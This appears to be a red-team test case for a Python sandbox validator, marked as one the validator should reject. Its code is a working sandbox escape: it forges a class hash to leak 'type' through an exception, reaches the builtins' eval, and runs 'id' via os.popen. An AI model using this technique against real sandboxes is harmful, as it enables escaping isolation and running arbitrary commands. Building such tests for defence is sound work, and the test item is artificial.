# expect: reject class_value
# line: 31
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family E: a class by value handed to the program's __eq__ through containment (an element of a tuple on the right of in, typing.get_args's tuple) or a dict lookup whose key of the program forges the class's hash (ours)
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   uid=0(root) gid=0(root) groups=0(root)
import copy
import typing

class P:
    pass

def ptr_hash(addr):
    y = ((addr >> 4) | (addr << 60)) & 0xFFFFFFFFFFFFFFFF
    if y >= 1 << 63:
        y -= 1 << 64
    return -2 if y == -1 else y

class Grab:
    def __init__(self, h):
        self.h = h
    def __hash__(self):
        return self.h
    def __eq__(self, other):
        raise LookupError(other)

OFFSET = 27936
def lookup(x):
    handlers = {Grab(ptr_hash(id(int) + OFFSET)): 1}
    return handlers[type(x)]

try:
    lookup(P)
except Exception as e:
    T = e.args[0]
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print(ev("__import__('os').popen('id').read()"), end="")
